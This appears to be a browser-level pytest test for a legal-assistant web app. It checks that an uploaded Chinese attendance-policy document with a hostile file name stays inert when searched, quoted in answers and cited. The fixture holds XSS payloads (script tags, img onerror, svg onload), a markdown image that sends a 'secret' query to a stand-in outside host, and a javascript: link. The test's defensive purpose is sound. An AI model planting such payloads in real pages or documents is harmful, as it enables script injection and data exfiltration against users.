"""Documents in a real browser: what stands in them, and what they are called, can do nothing."""

from __future__ import annotations

from pathlib import Path

import pytest
from tools.screenshot import Browser

from tests.faults.children import give_model
from tests.support.server import Server
from tests.web.legal_walk import LegalWalk

SCRIPT = (
    "<img src=x onerror=console.error('ran')><script>console.error('ran')</script><svg onload=console.error('ran')>"
)
AWAY = "![x](http://127.0.0.2:9/?q=secret) <link rel=stylesheet href=http://127.0.0.2:9/a.css> [x](javascript:alert(1))"
WORDS = "第一条 员工应当妥善保管考勤记录，保存期限为两年。"


@pytest.mark.slow
def test_attack_53_and_54_a_hostile_document_is_inert_wherever_it_is_shown(
    tmp_path: Path, tiny_model: Path, tab: Browser
) -> None:
    give_model(tiny_model)
    file = tmp_path / "<img src=x onerror=console.error('ran')>.txt"
    file.write_text(f"考勤规定\n\n{WORDS} {SCRIPT} {AWAY}\n\n第二条 {SCRIPT} 考勤记录由部门负责人核对。\n")
    server = Server(tmp_path / "bench", METIER_OFFLINE="1")
    walk = LegalWalk(server, tab, 1440, "zh")
    try:
        walk.sign_up()
        walk.documents("labour-law", [file], 60)
        assert walk.look_up("labour-law", "保管考勤记录 onerror")
        assert "onerror=console" in tab.evaluate("document.querySelector('.knowledge-found').innerText")
        walk.converse("legal")
        (answer,) = walk.ask(f"考勤记录要保管多久？{SCRIPT} {AWAY}", 60)
        assert "保存期限为两年" in answer
        assert "onerror=console" in answer  # it is there, as text
        cited = walk.open_citations()
        assert any("两年" in words for _, words in cited)
        walk.look_around("/", "/assistant", "/knowledge", "/knowledge/labour-law?tab=search&q=onerror")
        assert tab.messages == []
        outside = [one for one in tab.requests if not one.startswith((server.address, "data:", "blob:"))]
        assert outside == []
        assert tab.evaluate("document.querySelectorAll('img[src=x], .answer-text a[href^=javascript]').length") == 0
    finally:
        server.close()
